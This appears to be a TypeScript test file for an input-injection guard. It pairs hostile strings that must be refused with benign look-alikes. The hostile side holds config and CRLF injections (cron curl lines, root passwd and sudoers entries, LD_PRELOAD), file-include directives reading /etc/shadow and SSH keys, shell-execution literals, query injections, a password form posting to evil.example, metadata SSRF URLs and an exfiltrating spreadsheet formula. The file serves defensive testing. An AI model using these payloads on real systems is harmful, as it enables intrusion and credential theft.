@@ -1,0 +1,293 @@
+// What a value brings along that somebody behind the origin takes for his own: lines of a configuration or a protocol, a
+// directive that takes in a file, a command that another language runs, a query or a record that is closed and goes on.
+// Beside each the honest texts that look alike. At sensitivity 1, in a query, a leaf of JSON and a form.
+
+import { describe, expect, test } from 'vitest'
+
+import { refusing } from '../corpora/guard.ts'
+
+const isRefused = refusing()
+
+const PLACES = ['query', 'json', 'form']
+const KEY = `AAAAB3NzaC1yc2E${'A'.repeat(24)}`
+
+interface Decision {
+  readonly hostile: readonly string[]
+  readonly honest: readonly string[]
+  /** Where the honest ones are asked; the hostile ones, too, where it says `only`. */
+  readonly places?: readonly string[]
+  readonly only?: boolean
+}
+
+const DECISIONS: Readonly<Record<string, Decision>> = {
+  'a line of settings behind a value (CWE-93)': {
+    hostile: [
+      'avatar.png\nAddHandler application/x-httpd-php .png',
+      'a\nSetHandler server-info',
+      'b\r\nphp_value auto_append_file /srv/x',
+      'web\nauto_prepend_file = "php://input"'.replace(' = ', '='),
+      'prod\nLD_PRELOAD=/dev/shm/a.so',
+      'prod\nNODE_OPTIONS=--import=data:text/javascript,1',
+      'web\nExecStartPost=/bin/true',
+      'git.example.com\nProxyCommand nc %h 22',
+      'x"\n[core]\n\tsshCommand = touch /tmp/a',
+      `ann@laptop\nssh-rsa ${KEY} eve@laptop`,
+      'daily\n*/5 * * * * curl 192.0.2.7',
+      'daily\n@reboot /dev/shm/a',
+      'ann\neve:x:0:0:root:/root:/bin/sh',
+      'ann\neve ALL=(ALL:ALL) NOPASSWD:ALL',
+      'cn\nchangetype: delete',
+      'load\nlogins.failed:1|c',
+      'load\nservers.a.cpu 99 1700000000',
+    ],
+    honest: [
+      'NODE_ENV=production\nLD_PRELOAD=/usr/lib/libjemalloc.so\nNODE_OPTIONS=--max-old-space-size=4096',
+      '# crontab of the backup\n*/5 * * * * /usr/local/bin/backup',
+      '[Unit]\nDescription=a service\n\n[Service]\nExecStart=/usr/bin/a',
+      '<IfModule mod_mime.c>\n  AddType image/svg+xml .svg\n</IfModule>',
+      'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin',
+      'We set these options:\nExecStart and ExecStop, both of them.',
+      'Milk\nEggs\nBread 2 1',
+      'dn: cn=Ann,dc=example,dc=com\nchangetype: modify',
+      'requests.ok:1|c\nrequests.failed:2|c',
+      'Ann\nPath: the second on the left\nUser: ann',
+    ],
+    places: ['json', 'form'],
+  },
+  'a command or a header of a neighbour that breaks its lines as HTTP does (CWE-93)': {
+    hostile: [
+      '42\r\nContact: <sip:eve@192.0.2.7>',
+      'a\r\nINVITE sip:eve@192.0.2.7 SIP/2.0',
+      'a SIP/2.0\r\nTo: <sip:eve@192.0.2.7>',
+      'a\r\nDESCRIBE rtsp://192.0.2.7/cam RTSP/1.0',
+      'a\r\nPUB jobs.run 4\r\nping\r\n',
+      'a\r\nput 0 0 60 4\r\nping',
+      'a\r\nPRIVMSG #ops :hello',
+      'a\r\nRNFR /srv/a',
+      '42\r\nAction: Originate\r\nChannel: Local/1',
+      'a\r\nm=audio 9000 RTP/AVP 0',
+      'photo.jpg"; filename="x.php"\r\n\r\nx',
+      'photo.jpg"; name="admin"\r\n\r\ntrue',
+      'Ann\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Eve',
+      'a\u001b%-12345X@PJL INITIALIZE',
+    ],
+    honest: [
+      'ACME Ltd\r\nPART 12\r\nSITE 4',
+      'Ann\r\nJoin us\r\nList: milk',
+      'Ann Lee\r\nSIP 12 Street\r\nVia Roma 4',
+      'BEGIN:VCARD\r\nFN:Ann\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Bob\r\nEND:VCARD',
+      'BEGIN:VEVENT\r\nSUMMARY:Standup\r\nATTENDEE:mailto:ann@example.com\r\nEND:VEVENT',
+      '2" pipe; name="left"',
+      'Content-Disposition: form-data; name="a"; filename="b.txt"',
+      'Call me\r\nsip:ann@example.com',
+    ],
+    places: ['json', 'form'],
+  },
+  'a directive that takes in a file of the machine (CWE-98)': {
+    hostile: [
+      'include::/etc/shadow[tag=a]',
+      '.. literalinclude:: /etc/passwd',
+      '.. table:: a\n   :file: /etc/passwd',
+      'importstr "/etc/passwd"',
+      'local k = importstr "/root/.ssh/id_ed25519"; k',
+      '#include "/etc/shadow"',
+      '@import url("/etc/passwd");',
+      '<img src="/etc/passwd">',
+      '<annotation content="/etc/passwd" icon="Tag"/>',
+      'digraph g { a [image="/etc/passwd"] }',
+      '![a](file:///etc/passwd)',
+      '[[!include /etc/passwd]]',
+      '.so /etc/passwd',
+      '(slurp "/proc/self/environ")',
+      '{{> /etc/passwd}}',
+    ],
+    honest: [
+      'include::chapters/intro.adoc[]',
+      '.. literalinclude:: ../examples/passwd.py',
+      'importstr "./config.json"',
+      '#include <sys/types.h>\n#include "etc/passwd.h"',
+      'Users are listed in /etc/passwd, their hashes are not.',
+      'permission denied: open "/etc/shadow"',
+      'audit: name="/etc/passwd" inode=12 dev=fd:00',
+      '<file path="/etc/passwd" owner="root"/>',
+      'the mount "/etc/passwd" is read-only',
+    ],
+    places: ['json'],
+  },
+  'a command as a literal that some language runs (CWE-78)': {
+    hostile: [
+      "Process.run('whoami', [])",
+      '(uiop:run-program "uname -a")',
+      "@{[system 'whoami']}",
+      "eval { system 'whoami' }",
+      'Import["!whoami","Text"]',
+      '"uname -a".!!',
+      '"whoami" | getline u',
+      "open(my $h, '-|', 'whoami')",
+      'std::process::Command::new("whoami")',
+      'do shell script "uname -a"',
+      '[exec whoami]',
+      '\\! whoami',
+      '.shell whoami',
+      '%x{whoami}',
+      '%x[uname -a]',
+      'usort(...$_POST);',
+    ],
+    honest: [
+      'run "date" and "host" through the form',
+      "We call it 'system' here",
+      'Process.run("tests")',
+      'the "id" field | the "name" field',
+      '[open "the door"]',
+      "exec 'date'",
+      'system "time" is off by an hour',
+      '%x[0]',
+      'new "find" button',
+      "sort(...items, 'name')",
+    ],
+  },
+  'a pattern of SPARQL that goes on, or an update (CWE-943)': {
+    hostile: [
+      'a") . ?who <http://e.example/pin> ?pin . } #',
+      'http://e.example/a> ?p ?o . } ; CLEAR ALL #',
+      'a> . ?s foaf:mbox ?m . <b',
+      '"} ; LOAD <http://e.example/x.ttl> #',
+      "a'} . ?s a ?class . #",
+      'INSERT DATA { <a> <b> <c> }',
+      'DROP SILENT GRAPH <http://e.example/g>',
+    ],
+    honest: [
+      "what's ?a ?b ?c",
+      'PREFIX foaf: <http://xmlns.com/foaf/0.1/> SELECT ?n WHERE { ?p foaf:name ?n . ?p foaf:mbox ?m }',
+      'Clear all',
+      'drop all; clear all',
+      'load <your own> file',
+      "Ann's list: who? why? when?",
+      'https://example.com/a?b=c ?d ?e',
+    ],
+  },
+  'a stage or a search of its own behind a string (CWE-943)': {
+    hostile: [
+      'web" | rest /services/server/info',
+      'web" | outputlookup owned.csv',
+      "web' | inputlookup users",
+      'web" | map search="search index=_audit"',
+      'web" OR [search index=_audit | head 1',
+      'a"} |= "b',
+      'a"} | line_format "{{.x}}"',
+      "a'; traverse * from V; --",
+      "a'; create vertex V; --",
+    ],
+    honest: [
+      '27" | rest of the frame',
+      'the "left" | map of the town',
+      'a 5" or [search the shop]',
+      '6" | delete the old one',
+      'sourcetype="web" [search index=a | fields user] | stats count by user',
+      '{app="web"} |= "error" | line_format "{{.msg}}"',
+      "rock'n'roll; traverse the Alps",
+    ],
+  },
+  'an option of OData, or of Solr, that a value brings along (CWE-943)': {
+    hostile: [
+      '7)?$expand=Owner($select=Pin)',
+      "Ann'&$filter=1 eq 1 or 'a' eq 'a",
+      '7&$select=Pin',
+      '{!join from=a to=b fromIndex=private}*:*',
+      "{!xmlparser v='<a/>'}",
+    ],
+    honest: [
+      'Orders?$top=5&$skip=10',
+      'Orders(7)?$expand=Lines($select=Sku)',
+      "$filter=Name eq 'Ann'&$orderby=Name",
+      '{!geofilt sfield=store pt=45.1,-93.8 d=5}',
+      '{!join from=id to=parent}name:a',
+      '5 & $10',
+    ],
+  },
+  'a record that is closed and goes on (CWE-91, CWE-74)': {
+    hostile: [
+      'Ann</owner><limit>9999</limit><owner>',
+      'Ann</owner></account><account><owner>Eve',
+      ']]></note><limit>9</limit><note><![CDATA[',
+    ],
+    honest: [
+      '</p><p>another paragraph</p><p>',
+      '</li><li>two</li><li>three',
+      'a ]]]]><![CDATA[> b',
+      '<owner>Ann</owner><limit>5</limit>',
+      '"a","b":"c"',
+      'He said "yes", "no": all at once',
+      '{"a":"b","c":"d',
+    ],
+  },
+  // Not in a form: a document of JSON that is read as one, and cut where its strings have a `&`, looks the same.
+  'a string of JSON that is closed, and a member put behind it (CWE-74)': {
+    hostile: ['Ann","limit":9999,"a":"', 'Ann"},{"name":"Eve","role":"owner'],
+    honest: ['5", "width": 4', 'He said "yes", "no": all at once', '"a","b":"c"'],
+    places: ['query', 'json'],
+    only: true,
+  },
+  'a form that asks for a password, and sends it away (CWE-79)': {
+    hostile: [
+      '<form action="https://evil.example/in" method="post"><input type="password" name="p"></form>',
+      '<FORM ACTION=//evil.example><INPUT NAME=u><INPUT TYPE=PASSWORD NAME=p></FORM>',
+    ],
+    honest: [
+      '<form action="/search"><input type="text" name="q"></form>',
+      '<form action="https://lists.example.com/subscribe" method="post"><input type="email" name="e"></form>',
+    ],
+  },
+}
+
+for (const [decision, { hostile, honest, places = PLACES, only = false }] of Object.entries(DECISIONS))
+  describe(decision, () => {
+    test.each(hostile)('is refused: %j', (text) => {
+      expect((only ? places : PLACES).filter((place) => !isRefused(place, text))).toEqual([])
+    })
+    test.each(honest)('passes: %j', (text) => {
+      expect(places.filter((place) => isRefused(place, text))).toEqual([])
+    })
+  })
+
+describe('where a URL or a path leads, spelled otherwise', () => {
+  test.each([
+    // curl walks through what its globs say.
+    'http://127.0.0.{1,2}:8080/',
+    'http://{127.0.0.1,a}/',
+    'http://169.254.169.25[4-5]/latest/',
+    // A compatibility mapping writes the leader out (UAX 15).
+    '‥/‥/‥/etc/passwd',
+  ])('is refused: %j', (text) => {
+    expect(PLACES.filter((place) => !isRefused(place, text))).toEqual([])
+  })
+
+  test.each([
+    'https://{tenant}.example.com/{path}',
+    'https://cdn.example.com/img[1-3].png',
+    'https://api.{region}.example.com/',
+    'つづく‥/‥おわり',
+  ])('passes: %j', (text) => {
+    expect(PLACES.filter((place) => isRefused(place, text))).toEqual([])
+  })
+})
+
+describe('what is written as no command is, by anybody’s shell or database', () => {
+  test.each([
+    '+----+------+\n| id | name |\n+----+------+\n|  1 | Ann  |\n+----+------+',
+    'index=web | stats count as n | eval pct=round(100*n/7,1)."%" | table pct',
+    'sleep(9 hours) would be nice',
+    '=HYPERLINK("#Totals!B2","to the totals")',
+  ])('passes: %j', (text) => {
+    expect(isRefused('json', text)).toBe(false)
+  })
+
+  test.each([
+    '+----+\n| id | name',
+    '1 | eval $(id)',
+    'sleep(9)',
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  ])('is refused: %j', (text) => {
+    expect(isRefused('json', text)).toBe(true)
+  })
+})
